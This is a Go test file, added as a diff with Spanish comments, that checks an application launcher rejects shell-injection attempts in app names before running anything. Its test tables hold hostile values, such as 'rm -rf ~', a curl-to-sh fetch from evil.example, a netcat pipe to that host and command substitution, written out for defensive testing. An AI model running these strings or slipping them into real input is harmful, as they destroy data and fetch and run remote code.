@@ -0,0 +1,136 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// fakeCommands sustituye PATH por un directorio con un script por cada
+// nombre, que anota en un log la orden con sus argumentos y termina bien.
+// Devuelve una función que lee las órdenes ejecutadas, una por línea.
+func fakeCommands(t *testing.T, names ...string) func() []string {
+	t.Helper()
+	dir := t.TempDir()
+	logFile := filepath.Join(dir, "exec.log")
+	for _, name := range names {
+		script := "#!/bin/sh\necho \"" + name + " $*\" >> " + logFile + "\n"
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(script), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	t.Setenv("PATH", dir)
+	// Sin configuración del usuario: allowed_apps.json y demás ficheros
+	t.Setenv("HOME", dir)
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(dir, "config"))
+	return func() []string {
+		data, err := os.ReadFile(logFile)
+		if os.IsNotExist(err) {
+			return nil
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		return strings.Split(strings.TrimSpace(string(data)), "\n")
+	}
+}
+
+// writeTestConfig escribe un fichero en el directorio de configuración, que
+// fakeCommands ya ha llevado a un directorio temporal
+func writeTestConfig(t *testing.T, name, content string) {
+	t.Helper()
+	path, err := configPath(name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// setOSType cambia osType durante el test
+func setOSType(t *testing.T, value string) {
+	t.Helper()
+	previous := osType
+	osType = value
+	t.Cleanup(func() { osType = previous })
+}
+
+// maliciousAppNames son nombres que intentan ejecutar otra orden si llegaran
+// a un intérprete
+var maliciousAppNames = []struct {
+	name    string
+	appName string
+}{
+	{"punto y coma", "firefox; rm -rf ~"},
+	{"and", "firefox && curl evil.example | sh"},
+	{"tubería", "firefox | nc evil.example 1234"},
+	{"comillas invertidas", "firefox `id`"},
+	{"sustitución", "firefox $(id)"},
+	{"salto de línea", "firefox\nrm -rf ~"},
+	{"retorno de carro", "firefox\rrm -rf ~"},
+}
+
+func TestValidateAppNameRejectsShellMetacharacters(t *testing.T) {
+	for _, goos := range []string{"linux", "darwin"} {
+		setOSType(t, goos)
+		for _, tc := range maliciousAppNames {
+			t.Run(goos+"/"+tc.name, func(t *testing.T) {
+				if err := validateAppName(tc.appName); err == nil {
+					t.Errorf("validateAppName(%q) = nil; se esperaba un error", tc.appName)
+				}
+			})
+		}
+	}
+}
+
+func TestValidateAppNameWindows(t *testing.T) {
+	setOSType(t, "windows")
+	// Lo que interpretan cmd y PowerShell: variables, subexpresiones,
+	// comodines y comillas
+	for _, appName := range []string{"notepad && calc", "notepad | calc", "notepad\ncalc", "notepad' ; calc '", "notepad %PATH%", "notepad > out.txt",
+		"app$env:USERNAME", "$(calc)", "app`ncalc", "*", "explor*", "?sass"} {
+		if err := validateAppName(appName); err == nil {
+			t.Errorf("validateAppName(%q) = nil; se esperaba un error", appName)
+		}
+	}
+	// Rutas e identificadores de shell:AppsFolder, con '\' y '!'
+	for _, appName := range []string{`C:\Program Files\App\app.exe`, "shell:AppsFolder\\Microsoft.WindowsCalculator_8wekyb3d8bbwe!App"} {
+		if err := validateAppName(appName); err != nil {
+			t.Errorf("validateAppName(%q) = %v; se esperaba nil", appName, err)
+		}
+	}
+}
+
+func TestValidateAppNameAccepts(t *testing.T) {
+	setOSType(t, "linux")
+	for _, appName := range []string{"firefox", "Visual Studio Code", "org.gnome.Calculator", "code-insiders", "/usr/bin/gedit"} {
+		if err := validateAppName(appName); err != nil {
+			t.Errorf("validateAppName(%q) = %v; se esperaba nil", appName, err)
+		}
+	}
+	if err := validateAppName("  "); err == nil {
+		t.Error("validateAppName con un nombre vacío = nil; se esperaba un error")
+	}
+}
+
+func TestOpenApplicationRejectsBeforeExec(t *testing.T) {
+	setOSType(t, "linux")
+	// Todo lo que podría lanzar la aplicación o buscarla
+	executed := fakeCommands(t, "sh", "bash", "firefox", "gtk-launch", "xdg-open", "flatpak", "snap", "wmctrl", "pgrep", "xdotool")
+	for _, tc := range maliciousAppNames {
+		t.Run(tc.name, func(t *testing.T) {
+			result := openApplication(tc.appName, nil, "", true)
+			if !strings.HasPrefix(result, "❌ Nombre de aplicación no válido") {
+				t.Errorf("openApplication(%q) = %q; se esperaba el rechazo del nombre", tc.appName, result)
+			}
+		})
+	}
+	if commands := executed(); len(commands) > 0 {
+		t.Errorf("se ejecutaron órdenes con nombres rechazados: %q", commands)
+	}
+}